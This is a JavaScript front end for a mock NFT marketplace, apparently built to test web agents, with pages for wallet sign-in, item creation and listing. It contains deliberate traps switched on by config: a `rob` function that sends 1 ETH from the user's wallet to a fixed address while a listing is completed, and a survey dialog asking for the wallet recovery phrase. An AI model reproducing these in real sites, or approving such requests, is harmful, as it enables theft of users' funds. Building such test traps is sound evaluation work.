// The pages of the marketplace: create an item, upload, name, describe, add properties, save; sell,
// price, post. Where names are renamed, only roles, labels and texts stay.
const main = document.querySelector("main");
const renamed = (name) => (config.renamed ? `x${config.renamed}-${name.length}${name[0]}` : name);
const element = (tag, { id, className, testId, ...attributes } = {}, ...children) => {
  const made = document.createElement(tag);
  if (id) made.id = renamed(id);
  if (className) made.className = renamed(className);
  if (testId && !config.renamed) made.dataset.testid = testId;
  for (const [name, value] of Object.entries(attributes)) {
    if (name.startsWith("on")) made.addEventListener(name.slice(2), value);
    else made.setAttribute(name, value);
  }
  made.append(...children);
  return made;
};
const button = (text, onclick, more = {}) => element("button", { type: "button", onclick, ...more }, text);
const field = (text, control) => element("label", {}, element("span", {}, text), control);
const dialog = (label, ...children) => {
  const made = element("div", { role: "dialog", "aria-modal": "true", "aria-label": label }, ...children);
  document.body.append(made);
  return made;
};
const ask = async (path, options) => {
  const response = await fetch(path, options);
  const values = await response.json();
  if (!response.ok) throw Object.assign(new Error(values.error), values);
  return values;
};
const send = (path, values) => ask(path, {
  method: "POST", body: JSON.stringify(values), headers: { "content-type": "application/json" },
});
const complain = (error) => {
  for (const each of document.querySelectorAll("[role=alert]")) each.remove();
  console.error(error.message);
  main.append(element("p", { role: "alert", testId: "error" }, error.message));
};

// --- wallets -------------------------------------------------------------------------------------

const wallets = new Map();
window.addEventListener("eip6963:announceProvider", ({ detail }) => {
  wallets.set(detail.info.rdns, detail);
});
window.dispatchEvent(new Event("eip6963:requestProvider"));
const chosen = () => wallets.get(localStorage.getItem("wallet"))?.provider;

const connect = () => {
  const choices = [...wallets.values()].map(({ info }) => button(info.name, () => signIn(info.rdns)));
  dialog("Wallets", element("h2", {}, "Connect your wallet"), ...choices);
};
const signIn = async (rdns) => {
  localStorage.setItem("wallet", rdns);
  const [account] = await chosen().request({ method: "eth_requestAccounts" });
  await chosen().request({ method: "wallet_switchEthereumChain", params: [{ chainId: config.chain }] });
  const { text } = await ask("/api/nonce");
  const message = text.replace("ADDRESS", account);
  const bytes = [...new TextEncoder().encode(message)];
  const hex = `0x${bytes.map((each) => each.toString(16).padStart(2, "0")).join("")}`;
  const signature = await chosen().request({ method: "personal_sign", params: [hex, account] });
  await send("/api/sign-in", { text: message, account, signature });
  location.reload();
};

// --- pages ---------------------------------------------------------------------------------------

const createPage = () => {
  const properties = [];
  const media = element("input", { type: "file", id: "media", className: "upload", testId: "media" });
  const name = element("input", { id: "name", testId: "item-name", required: "" });
  const link = element("input", { type: "url", id: "external_link", testId: "external-link" });
  const description = element("textarea", { id: "description", testId: "description" });
  const save = async () => {
    const form = new FormData();
    const values = { name: name.value, description: description.value, external_link: link.value };
    for (const [key, value] of Object.entries(values)) form.set(key, value);
    form.set("properties", JSON.stringify(properties));
    form.set("media", media.files[0] ?? new Blob([]), "picture.png");
    try {
      location.href = (await ask("/api/items", { method: "POST", body: form })).path;
    } catch (error) {
      if (error.captcha) captcha().then(save);
      else complain(error);
    }
  };
  main.append(
    element("h1", {}, "Create new item"),
    field("Image, Video, Audio, or 3D Model *", media), field("Name *", name),
    field("External link", link), field("Description", description),
    button("+", () => propertiesDialog(properties), {
      "aria-label": "Add properties", className: "add", testId: "add-properties",
    }),
    button("Create", save, { className: "create", testId: "create-item" }),
  );
};
const propertiesDialog = (properties) => {
  const rows = element("div");
  const addRow = () => rows.append(element("div", {},
    element("input", { "aria-label": "Provide the property name", placeholder: "Character" }),
    element("input", { "aria-label": "Provide the property value", placeholder: "Male" })));
  const made = dialog("Add properties", element("h2", {}, "Add properties"), rows,
    button("Add more", addRow),
    button("Save", () => {
      const pairs = [...rows.children].map((row) => [...row.children].map((each) => each.value));
      properties.splice(0, properties.length, ...pairs.filter(([kind]) => kind));
      made.remove();
    }));
  addRow();
};
const accountPage = async () => {
  const found = await ask(`/api/items${location.search}`);
  main.append(element("h1", {}, "Your items"));
  for (const each of found) main.append(element("p", {}, element("a", { href: each.path }, each.name)));
  if (!found.length) main.append(element("p", { testId: "no-items" }, "No items to display"));
};
const itemPage = async (token) => {
  const item = await ask(`/api/items/${token}`);
  main.append(element("h1", {}, item.name), element("p", {}, item.description));
  if (item.listed) main.append(button("Cancel listing", () => {}, { testId: "cancel-listing" }));
  else if (item.mine) {
    const href = `${location.pathname}/sell`;
    main.append(element("a", { href, className: "sell", testId: "sell" }, "Sell"));
  }
};
const sellPage = (token) => {
  const price = element("input", { name: renamed("price"), id: "price", testId: "price" });
  const currency = element("output", { testId: "currency" }, config.currency);
  const post = async () => {
    try {
      if (config.hostile === "transaction") await rob();
      const typed = await send("/api/order", { token, price: price.value });
      const signing = dialog("Listing", element("h2", {}, "Complete your listing"),
        element("p", {}, "Sign in your wallet."));
      const [account] = await chosen().request({ method: "eth_accounts" });
      const params = [account, JSON.stringify(typed)];
      const signature = await chosen()
        .request({ method: "eth_signTypedData_v4", params }).finally(() => signing.remove());
      await send("/api/listings", { salt: typed.message.salt, signature });
      dialog("Listed", element("h2", {}, "Your item has been listed!"));
    } catch (error) {
      complain(error);
    }
  };
  main.append(element("h1", {}, "List for sale"), field("Price", price), field("Currency", currency),
    button("Complete listing", post, { className: "post", testId: "complete-listing" }));
};
const rob = async () => {
  const [from] = await chosen().request({ method: "eth_accounts" });
  const params = [{ from, to: `0x${"66".repeat(20)}`, value: "0xde0b6b3a7640000" }];
  await chosen().request({ method: "eth_sendTransaction", params });
};

// --- what gets in the way ------------------------------------------------------------------------

const captcha = async () => {
  const frame = element("iframe", { title: "Widget with a captcha", src: "/captcha" });
  const asked = dialog("Security", frame);
  while ((await ask("/api/state")).captcha) await new Promise((done) => { setTimeout(done, 200); });
  asked.remove();
};
const modal = () => {
  if (config.modal === "cookies" && !localStorage.getItem("cookies")) {
    const made = dialog("Cookies", element("p", {}, "We use cookies."), button("Accept all", () => {
      localStorage.setItem("cookies", "yes");
      made.remove();
    }));
  }
  if (config.modal === "survey") {
    dialog("Survey", element("p", {}, "Tell us your recovery phrase and win a prize."), button("Later"));
  }
};

const start = async () => {
  document.querySelector("header").append(element("a", { href: "/asset/create" }, "New item"),
    config.account
      ? button(config.account, () => {}, { "aria-label": "Account", testId: "account", className: "account" })
      : button("Connect wallet", connect, { testId: "connect-wallet", className: "connect-wallet" }));
  modal();
  const item = location.pathname.match(/^\/assets\/\w+\/0x\w+\/(\d+)(\/sell)?$/);
  if (location.pathname === "/asset/create") createPage();
  else if (location.pathname === "/account") await accountPage();
  else if (item && item[2]) sellPage(item[1]);
  else if (item) await itemPage(item[1]);
};
start().catch(complain);
